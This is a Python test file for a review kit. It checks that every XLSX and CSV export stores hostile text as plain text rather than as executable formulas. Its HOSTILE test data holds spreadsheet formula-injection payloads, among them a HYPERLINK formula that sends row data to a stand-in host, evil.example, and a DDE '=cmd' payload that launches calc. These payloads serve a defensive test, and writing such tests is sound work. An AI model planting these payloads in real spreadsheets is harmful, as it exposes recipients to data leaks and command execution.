"""Spreadsheets the kit writes hold text as text: never a formula a council's Excel would run.

A review whose every free-text place holds hostile text (the council, the theme, a reviewer's
name, the audit tool's titles, wording and rating labels, the recommendations, evidence notes,
case flags, meeting titles and roles, notes and speaker roles, an action plan's owner, measure
and update) is written out as every XLSX the kit makes: the action plan, the offline audit
workbook and the export of every kind. Every cell of every sheet is read back with openpyxl,
and again after LibreOffice has opened and saved the file: none is a formula (or an error
value), and each text is the one written. The CSV exports start no cell with a character a
spreadsheet would run (export writes one leading ``'``, which import removes again).
"""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
import yaml

from reviewkit.intake.actionplan import ActionPlan, PlanRow, action_plan, read_plan, recommendation_texts, write_plan
from reviewkit.intake.io import export, import_files
from reviewkit.intake.workbook import write_workbook
from reviewkit.review.ratings import RatingInput
from reviewkit.review.reviewyaml import Case
from reviewkit.review.workspace import create_workspace, open_workspace

HOSTILE = ("=1+1", '=HYPERLINK("http://evil.example/?leak="&ROW(),"Click for more")', "+cmd", "@SUM(1,2)", "-2+3",
           "#N/A", "=cmd|' /C calc'!Z")
REVIEWER = "@SUM(1,2)"
# Recommendations are published text, where an '@' has an email's shape and is refused: none holds one.
RECOMMENDATIONS = tuple(h for h in HOSTILE if "@" not in h)
KINDS = ("ratings", "flags", "meetings", "conversations", "notes")
RUNS = ("=", "+", "-", "@", "\t", "\r")  # a spreadsheet runs a cell that begins with one of these


def _hostile_workspace(root: Path):
    ws = create_workspace(root, council=HOSTILE[1], theme=HOSTILE[2], reviewers=[REVIEWER, "B. Visitor"],
                          host="H. Host")
    ws.meta.cases = [Case("C01", REVIEWER), Case("C02", "B. Visitor", (REVIEWER,))]
    ws.save_meta()
    tool_file = root / "audit_tool.yaml"
    tool = yaml.safe_load(tool_file.read_text(encoding="utf-8"))
    tool["title"] = HOSTILE[0]
    first = tool["scale"][0]["label"]
    tool["scale"][0]["label"] = HOSTILE[4]  # a rating label: the workbook's drop-down list
    for i, q in enumerate([*tool["questions"], tool["overall"]]):
        q["title"], q["text"] = HOSTILE[i % len(HOSTILE)], HOSTILE[(i + 1) % len(HOSTILE)]
        q["descriptors"] = {(HOSTILE[4] if k == first else k): HOSTILE[(i + 2) % len(HOSTILE)]
                            for k in q["descriptors"]}
    tool_file.write_text(yaml.safe_dump(tool), encoding="utf-8")
    (root / "narrative" / "recommendations.md").write_text(
        "".join(f"{i}. {text}\n" for i, text in enumerate(RECOMMENDATIONS, 1)), encoding="utf-8")
    ws = open_workspace(root)
    with ws.store() as s:
        s.apply_ratings("H. Host", [RatingInput("C01", REVIEWER, f"q{i}", "Good", text)
                                    for i, text in enumerate(HOSTILE, 1)])
        s.set_case_flag("H. Host", "C01", REVIEWER, referred_back=True, reason=HOSTILE[1], complete=False)
        meeting = s.add_meeting("H. Host", "practitioners", "2026-03-21", {HOSTILE[4]: 2, "manager": 1}, HOSTILE[0])
        talk = s.add_conversation("H. Host", "C01", "person", REVIEWER, "2026-03-22")
        for i, text in enumerate(HOSTILE):
            s.add_note("H. Host", text, meeting_id=meeting, kind="quote", stance="concern",
                       speaker_role=HOSTILE[(i + 1) % len(HOSTILE)])
        s.add_note("H. Host", HOSTILE[6], conversation_id=talk, kind="note")
    return ws


# A plan as a council hands it back, hostile in every column, with a tab and a carriage return.
PLAN = ActionPlan(HOSTILE[1], "2026-10", tuple(
    PlanRow(i, text, owner=HOSTILE[(i + 1) % len(HOSTILE)], measure="\tTabbed start", status="Done",
            update="\rReturn first " + HOSTILE[(i + 2) % len(HOSTILE)])
    for i, text in enumerate(HOSTILE, 1)))


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Every XLSX (and CSV) the kit writes, from the hostile review."""
    root = tmp_path_factory.mktemp("hostile")
    ws = _hostile_workspace(root / "ws")
    out = root / "out"
    out.mkdir()
    files = {"plan": write_plan(action_plan(ws), out / "plan.xlsx"),
             "returned_plan": write_plan(PLAN, out / "returned_plan.xlsx"),
             "workbook": write_workbook(ws, REVIEWER, out / "workbook.xlsx"),
             "all": export(ws, out / "all.xlsx", what="all")}
    for kind in KINDS:
        files[kind] = export(ws, out / f"{kind}.xlsx", what=kind)
        files[f"{kind}_csv"] = export(ws, out / f"{kind}.csv", what=kind)
    return {"ws": ws, "root": root, "files": files}


XLSX = ("plan", "returned_plan", "workbook", "all", *KINDS)


def _cells(path: Path) -> dict[tuple[str, str], tuple[object, str]]:
    """Every written cell of every sheet: (sheet, coordinate) → (value, openpyxl data type)."""
    wb = openpyxl.load_workbook(path)
    return {(sheet.title, c.coordinate): (c.value, c.data_type)
            for sheet in wb for row in sheet.iter_rows() for c in row if c.value is not None}


def _rows(path: Path, sheet: str) -> list[list[object]]:
    return [list(r) for r in openpyxl.load_workbook(path)[sheet].iter_rows(values_only=True)]


@pytest.mark.parametrize("name", XLSX)
def test_no_cell_is_a_formula_and_text_is_stored_as_text(written: dict, name: str) -> None:
    cells = _cells(written["files"][name])
    assert [f"{s}!{c} {t}" for (s, c), (_v, t) in cells.items() if t not in ("s", "n", "d")] == []
    assert all(t == "s" for v, t in cells.values() if isinstance(v, str))


def test_the_action_plan_holds_the_recommendations_as_written(written: dict) -> None:
    ws, path = written["ws"], written["files"]["plan"]
    recs = recommendation_texts((ws.path / "narrative" / "recommendations.md").read_text(encoding="utf-8"))
    assert recs == list(RECOMMENDATIONS)
    rows = _rows(path, "Action plan")
    assert rows[0][0] == f"Action plan: practice review of {HOSTILE[1]}"
    header = next(i for i, r in enumerate(rows) if r[0] == "Number")
    assert [r[1] for r in rows[header + 1:] if isinstance(r[0], int)] == recs  # recommendation rows (not actions)


def test_the_action_plan_reads_back_as_written(written: dict) -> None:
    ws, path = written["ws"], written["files"]["plan"]
    recs = recommendation_texts((ws.path / "narrative" / "recommendations.md").read_text(encoding="utf-8"))
    plan = read_plan(path)
    assert plan.council == HOSTILE[1] and [r.recommendation for r in plan.rows] == recs
    # The starting figures the kit wrote from the hostile titles ("Q3 +cmd: 100% … (1 of 1 case record)") come
    # back as written, each naming its question.
    written_starts = [r.start for r in action_plan(ws).rows]
    assert [r.start for r in plan.rows] == written_starts and all(s.startswith("Q") for s in written_starts)
    assert "Q3 +cmd: 100% " in " ".join(written_starts)


def test_a_returned_plan_keeps_every_column_as_written(written: dict) -> None:
    rows = _rows(written["files"]["returned_plan"], "Action plan")
    at = next(i for i, r in enumerate(rows) if r[0] == "Number")
    col = {name: j for j, name in enumerate(rows[at])}
    recs = [r for r in rows[at + 1:] if isinstance(r[0], int)]
    assert [[r[0], r[col["Recommendation or action"]], r[col["Owner"]], r[col["Target"]], r[col["Status"]],
             r[col["Update"]]] for r in recs] == [
        [p.number, p.recommendation, p.owner, p.measure, p.status, p.update] for p in PLAN.rows]
    assert dict(_rows(written["files"]["returned_plan"], "About this plan"))["council"] == HOSTILE[1]


def test_the_audit_workbook_holds_the_tools_wording_and_labels_as_written(written: dict) -> None:
    ws, path = written["ws"], written["files"]["workbook"]
    tool, levels = ws.tool, [lv.label for lv in ws.tool.scale.scored]
    questions = [*tool.questions, tool.overall]
    assert _rows(path, "Questions") == [["id", "title", "question text", *levels],
                                        *[[q.id, q.title, q.text, *[q.descriptors.get(lv) for lv in levels]]
                                          for q in questions]]
    ratings = _rows(path, "Ratings")[1:]
    assert [(r[1], r[3]) for r in ratings] == [(REVIEWER, q.title) for _case in ("C01", "C02") for q in questions]
    wb = openpyxl.load_workbook(path)
    [dv] = wb["Ratings"].data_validations.dataValidation
    listed = [c.value for row in wb["Instructions"][dv.formula1.split("!")[1].replace("$", "")] for c in row]
    assert listed == tool.scale.labels and listed[0] == HOSTILE[4]  # the drop-down offers the labels as text
    info = dict((r[0], r[1]) for r in _rows(path, "Instructions") if r[0])
    assert info["Reviewer"] == REVIEWER and info["Theme"] == HOSTILE[2]
    assert info[f"Offline audit workbook: {HOSTILE[1]}"] is None


@pytest.mark.parametrize("kind", KINDS)
def test_an_export_writes_what_its_csv_writes_and_quotes_what_would_run(written: dict, kind: str) -> None:
    with written["files"][f"{kind}_csv"].open(encoding="utf-8-sig", newline="") as f:
        csv_rows = list(csv.reader(f))
    assert [c for r in csv_rows for c in r if c[:1] in RUNS] == []  # nothing a spreadsheet opening it runs
    for name in (kind, "all"):
        xlsx_rows = [["" if v is None else str(v) for v in r] for r in _rows(written["files"][name], kind)]
        assert xlsx_rows == csv_rows
    text = {c for r in csv_rows[1:] for c in r}
    assert {("'" + h if h[:1] in RUNS else h) for h in HOSTILE} & text  # the hostile text is there, quoted


def test_the_export_imports_back_unchanged(written: dict) -> None:
    summary = import_files(written["ws"], [written["files"]["all"]], actor="H. Host")
    assert {kind: (s.added, s.changed) for kind, s in summary.items()} == {kind: (0, 0) for kind in summary}


def test_every_workbook_reads_back_the_same_after_libreoffice_saves_it(written: dict, tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    sources = [written["files"][name] for name in XLSX]
    saved, profile = tmp_path / "saved", tmp_path / "profile"
    done = subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
                           "--convert-to", "xlsx", "--outdir", str(saved), *map(str, sources)],
                          capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr[-1000:]
    for source in sources:
        again = _cells(saved / source.name)
        assert [k for k, (_v, t) in again.items() if t == "f"] == [], source.name
        text = {k: v for k, (v, _t) in _cells(source).items() if isinstance(v, str)}
        assert {k: again.get(k, (None, ""))[0] for k in text} == text, source.name
